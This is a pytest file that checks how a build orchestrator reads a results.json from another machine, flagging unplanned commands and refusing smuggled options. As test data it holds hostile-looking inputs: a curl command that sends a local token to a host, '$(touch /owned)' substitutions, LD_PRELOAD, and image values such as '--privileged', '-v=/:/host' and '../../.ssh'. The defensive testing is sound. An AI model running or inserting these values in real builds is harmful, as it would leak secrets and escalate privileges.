"""A request that was written to results.json, read back out of it."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from orchestrator.errors import ConfigError
from orchestrator.models.result import ContainerInfo
from orchestrator.models.target import (
    BackendName,
    BuildRequest,
    CompilePlan,
    CudaSource,
    Digest,
    EmulationMode,
    EnvironmentSpec,
    EnvVar,
    Frontend,
    FrontendName,
    LibraryStep,
    OnMismatch,
    OnRefusal,
    Source,
    Target,
    TargetId,
    TargetResources,
    TargetSteps,
    VersionAnswer,
    VersionPart,
)
from orchestrator.report import from_results
from orchestrator.report.schemas import Result
from orchestrator.report.serialize import result
from tests import factories, reports

ID = TargetId("cp312-manylinux_x86_64-a")

PLANNED = factories.target(
    ID,
    variant=(("kind", "a"),),
    version="2.0",
    env=(EnvVar(name="MY_TOKEN", value="ours-of-today", origin="env"),),
    steps=TargetSteps(timeout=60),
    runner=("ubuntu-24.04",),
    needs=(TargetId("core"),),
)

BUILT = replace(
    PLANNED,
    version="1.0+a",
    build_tag="7",
    on_mismatch=OnMismatch.REWRITE,
    env=(
        EnvVar(name="DEPTH", value="$(nproc)", origin="env", shell=True),  # noqa: S604
        EnvVar(name="MY_TOKEN", value="theirs-of-then", origin="env"),
    ),
    steps=TargetSteps(
        environment=EnvironmentSpec(
            requires=("torch==2.13.*",),
            isolation=False,
            frontend=Frontend(name=FrontendName.BUILD_UV, args=("-x",)),
            indexes=(("torch", "https://host/cu130"),),
            cuda=CudaSource.INDEX,
        ),
        before_build="make all",
        config_settings=(("cmake.define.A", "1"), ("cmake.define.A", "2")),
        repair="auditwheel",
        repair_refused=OnRefusal.KEEP,
        external=("cuda",),
        normalise=True,
        test_command="pytest",
        test_requires=("pytest>=8",),
        timeout=5,
    ),
    baseline="2.28",
    pins=("torch==2.8.0",),
    parts=(
        VersionPart(
            name="base",
            value="1.0",
            source="env:V",
            answers=(VersionAnswer(source="env:V", value="1.0"),),
        ),
    ),
    resources=TargetResources(cpus=2.0, memory="1024b"),
)

CONTAINER = ContainerInfo(
    engine="podman",
    version="5.4",
    rootless=False,
    cgroup="v2",
    storage="overlay",
    image="quay.io/pypa/manylinux_2_28_x86_64:2026",
    image_id="1234",
    digest="quay.io/pypa/manylinux_2_28_x86_64@sha256:" + "a" * 64,
)


def written(target: Target = BUILT, **changes: Any) -> dict[str, Any]:
    """What results.json says of a target that was built elsewhere."""
    source = Source(name="demo", version=None, digest=Digest("d" * 64), epoch=1_700_000_000)
    request = BuildRequest(
        target=target,
        source=source,
        backend=BackendName.CIBUILDWHEEL,
        toolchain_digest=Digest("t" * 64),
        builder_version="0.1.0",
        key=Digest("k" * 64),
    )
    outcome = factories.result(
        target.id,
        key=request.key,
        backend=BackendName.CIBUILDWHEEL,
        parts=target.parts,
        container=CONTAINER,
        request=request,
    )
    return result(replace(outcome, **changes), root=Path("/"))


def read(folder: Path, *results: dict[str, Any]) -> dict[TargetId, Result]:
    (folder / "results.json").write_text(json.dumps(reports.document(*results)))
    return from_results.read(folder)


def test_what_was_built_comes_back(tmp_path: Path) -> None:
    found = from_results.as_recorded([PLANNED], read(tmp_path, written()), where="r.json")

    assert found.targets == (
        replace(
            BUILT,
            image=CONTAINER.digest,
            env=(BUILT.env[0], PLANNED.env[0]),
            # No part of what comes out.
            steps=replace(BUILT.steps, timeout=60),
        ),
    )
    assert found.notes == (f"{ID}: MY_TOKEN is secret there, and as planned here",)
    assert f"{ID}: version: 2.0 -> 1.0+a" in found.taken
    assert f"{ID}: env DEPTH: - -> $(nproc)" in found.taken
    assert f"{ID}: config settings: - -> " in " ".join(found.taken)


def test_an_image_without_a_digest_is_taken_by_its_name(tmp_path: Path) -> None:
    local = replace(CONTAINER, digest="", image="localhost/base:1")
    results = read(tmp_path, written(container=local))

    assert from_results.as_recorded([PLANNED], results, where="").targets[0].image == local.image

    results = read(tmp_path, written(container=None))
    assert from_results.as_recorded([PLANNED], results, where="").targets[0].image == BUILT.image


def test_a_secret_in_a_command_leaves_that_command_as_planned(tmp_path: Path) -> None:
    steps = replace(BUILT.steps, before_build="pip install --index-url https://a:pass@host/x y")
    planned = replace(PLANNED, steps=TargetSteps(before_build="ours"))

    found = from_results.as_recorded(
        [planned], read(tmp_path, written(replace(BUILT, steps=steps))), where=""
    )

    assert found.targets[0].steps.before_build == "ours"
    assert f"{ID}: before_build has a secret in it there, and is as planned here" in found.notes


def test_a_secret_in_an_index_is_not_written_and_leaves_the_environment_as_planned(
    tmp_path: Path,
) -> None:
    indexes = (("torch", "https://me:pass-word@host/x"),)
    steps = replace(BUILT.steps, environment=EnvironmentSpec(indexes=indexes))
    file = written(replace(BUILT, steps=steps))

    found = from_results.as_recorded([PLANNED], read(tmp_path, file), where="")

    assert "pass-word" not in repr(file)
    assert found.targets[0].steps.environment == EnvironmentSpec()
    assert f"{ID}: environment has a secret in it there, and is as planned here" in found.notes


def test_a_secret_that_is_not_set_here_is_said(tmp_path: Path) -> None:
    planned = replace(PLANNED, env=())

    found = from_results.as_recorded([planned], read(tmp_path, written()), where="")

    assert [each.name for each in found.targets[0].env] == ["DEPTH"]
    assert f"{ID}: MY_TOKEN is secret there, and not set here" in found.notes


def test_a_library_that_the_file_lacks_is_built_as_planned(tmp_path: Path) -> None:
    library = replace(PLANNED, id=TargetId("core"), needs=())

    found = from_results.as_recorded([library, PLANNED], read(tmp_path, written()), where="r.json")

    assert found.targets[0] == library
    assert "core: not in r.json, built as planned here" in found.notes


def test_the_backend_is_asked_for_where_the_file_says_which(tmp_path: Path) -> None:
    def of(**changes: Any) -> BackendName | None:
        return from_results.backend_of(read(tmp_path, written() | changes)[ID])

    assert of() is BackendName.CIBUILDWHEEL
    assert of(backend="direct", container=None) is BackendName.DIRECT
    assert of(backend="direct") is None, "that one was in a container"
    assert of(backend="direct", container=None, cached=True) is None, "nobody knows where"


def test_an_id_that_stands_for_something_else_is_an_error(tmp_path: Path) -> None:
    results = read(tmp_path, written(replace(BUILT, python="cp313")))

    with pytest.raises(ConfigError, match="for another Python or platform"):
        from_results.as_recorded([PLANNED], results, where="r.json")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{", "not a JSON document"),
        ('{"schema": 2, "results": []}', "not a results.json of schema 1 but of schema 2"),
        ('{"schema": 1, "results": [{}]}', "results.0.id"),
        ('{"schema": 1, "results": []}', f"r.json: it has no target '{ID}'"),
    ],
)
def test_a_file_of_something_else(tmp_path: Path, text: str, message: str) -> None:
    file = tmp_path / "r.json"
    file.write_text(text)

    with pytest.raises(ConfigError) as error:
        from_results.request_of(from_results.read(file), ID, where="r.json")
    assert message in str(error.value)


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"results\.json: No such file"):
        from_results.read(tmp_path)


def test_a_target_that_never_had_a_request(tmp_path: Path) -> None:
    entry = reports.result(ID, "failed", failure=reports.failure(message="no such image"))

    with pytest.raises(ConfigError, match=r"was to be built \(failed: no such image\)"):
        from_results.request_of(read(tmp_path, entry), ID, where="r.json")


def test_facts_that_differ_are_named(tmp_path: Path) -> None:
    before = read(tmp_path, written())[ID]
    now = written(
        replace(BUILT, env=(EnvVar(name="DEPTH", value="3", origin="env"), BUILT.env[1])),
        container=replace(CONTAINER, image_id="5678"),
    )

    assert [(each.what, each.before, each.now) for each in from_results.differing(before, now)] == [
        ("container image id", "1234", "5678"),
        ("env DEPTH", "$(nproc)", "3"),
    ]
    assert from_results.differing(before, written()) == ()


# What only a container may run


def foreign(folder: Path, theirs: Target, mine: Target = PLANNED) -> tuple[str, ...]:
    found = from_results.as_recorded([mine], read(folder, written(theirs)), where="r.json")
    return found.foreign.get(mine.id, ())


def with_steps(**steps: Any) -> Target:
    return replace(PLANNED, steps=TargetSteps(**steps))


def with_env(*, evaluated: bool = False, **values: str) -> Target:
    more = (EnvVar(name=n, value=v, origin="env", shell=evaluated) for n, v in values.items())
    return replace(PLANNED, env=(*PLANNED.env, *more))


@pytest.mark.parametrize(
    ("theirs", "what"),
    [
        (with_steps(before_all="touch /owned"), "before-all: touch /owned"),
        (with_steps(before_build="make"), "before-build: make"),
        (with_steps(repair="cp {wheel} {dest_dir}"), "repair: cp {wheel} {dest_dir}"),
        (with_steps(test_command="pytest"), "test-command: pytest"),
        (with_steps(test_before="true"), "test-before: true"),
        (with_steps(test_requires=("x @ https://host/x.whl",)), "test-requires: ('x @ "),
        (with_steps(test_groups=("dev",)), "test-groups: ('dev',)"),
        (with_steps(config_settings=(("--global-option", "x"),)), "config-settings: "),
        (with_steps(environment=EnvironmentSpec(requires=("evil",))), "environment: "),
        (with_env(CC="sh -c true"), "env CC=sh -c true"),
        (with_env(LD_PRELOAD="/x.so"), "env LD_PRELOAD=/x.so"),
        (with_env(V="$(touch /owned)", evaluated=True), "env V=$(touch /owned)"),
        (
            replace(PLANNED, compiling=CompilePlan(emulation=EmulationMode.CROSS)),
            "compiling: cross by gcc",
        ),
    ],
)
def test_what_the_plan_does_not_run_is_foreign(theirs: Target, what: str, tmp_path: Path) -> None:
    (found,) = foreign(tmp_path, theirs)
    assert found.startswith(what)


def test_the_commands_of_a_library_are_foreign_too(tmp_path: Path) -> None:
    library = LibraryStep(name="core", command="make", outputs=("*.so",))
    mine = replace(PLANNED, library=library)
    assert foreign(tmp_path, mine, mine) == ()
    theirs = replace(mine, library=replace(library, command="touch /owned"))
    (found,) = foreign(tmp_path, theirs, mine)
    assert "touch /owned" in found


def test_what_the_plan_runs_itself_is_not_foreign(tmp_path: Path) -> None:
    mine = replace(with_env(PRETEND="2.0", V="$(nproc)", evaluated=True), steps=BUILT.steps)
    assert foreign(tmp_path, mine, mine) == ()
    # Another version of it, and less than the plan does.
    theirs = replace(mine, version="1.0+a", env=with_env(PRETEND="1.0+a").env, steps=TargetSteps())
    assert foreign(tmp_path, theirs, mine) == ()
    assert foreign(tmp_path, replace(theirs, env=with_env(PRETEND="1.0").env), mine) != ()
    literal = replace(mine, env=with_env(V="$(nproc)").env)
    assert foreign(tmp_path, mine, literal) == ("env PRETEND=2.0", "env V=$(nproc)")


def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(tmp_path: Path) -> None:
    theirs = with_steps(before_build="curl https://host/?$MY_TOKEN")
    results = read(tmp_path, written(theirs))
    found = from_results.as_recorded([PLANNED], results, where="r.json")
    (what,) = found.exposed[ID]
    assert what == "before-build: curl https://host/?$MY_TOKEN, with MY_TOKEN of this machine"

    without = replace(PLANNED, env=())
    assert from_results.as_recorded([without], results, where="r.json").exposed == {}
    mine = replace(PLANNED, steps=theirs.steps)
    assert from_results.as_recorded([mine], results, where="r.json").exposed == {}


@pytest.mark.parametrize(
    "theirs",
    [
        replace(BUILT, baseline="2"),
        replace(BUILT, baseline="2.17 -o x"),
        replace(BUILT, abi3="--help"),
        replace(BUILT, test_pythons=("cp313", "../python")),
        replace(BUILT, compiling=CompilePlan(baseline="2.x")),
        replace(BUILT, resources=TargetResources(memory="1g --privileged")),
        replace(BUILT, pins=("torch==",)),
        replace(BUILT, steps=TargetSteps(test_sources=("../../.ssh",))),
        replace(BUILT, steps=TargetSteps(test_sources=("/etc",))),
    ],
)
def test_facts_that_no_plan_has_are_refused(theirs: Target, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="cannot be"):
        from_results.as_recorded([PLANNED], read(tmp_path, written(theirs)), where="r.json")


@pytest.mark.parametrize("image", ["--privileged", "-v=/:/host", "a b", "$(id)", "\n"])
def test_an_image_is_no_option(image: str, tmp_path: Path) -> None:
    for built in (
        written(replace(BUILT, image=image), container=None),
        written(container=replace(CONTAINER, digest=image)),
        written(container=replace(CONTAINER, digest="", image=image)),
    ):
        with pytest.raises(ConfigError, match="image cannot be"):
            from_results.as_recorded([PLANNED], read(tmp_path, built), where="r.json")
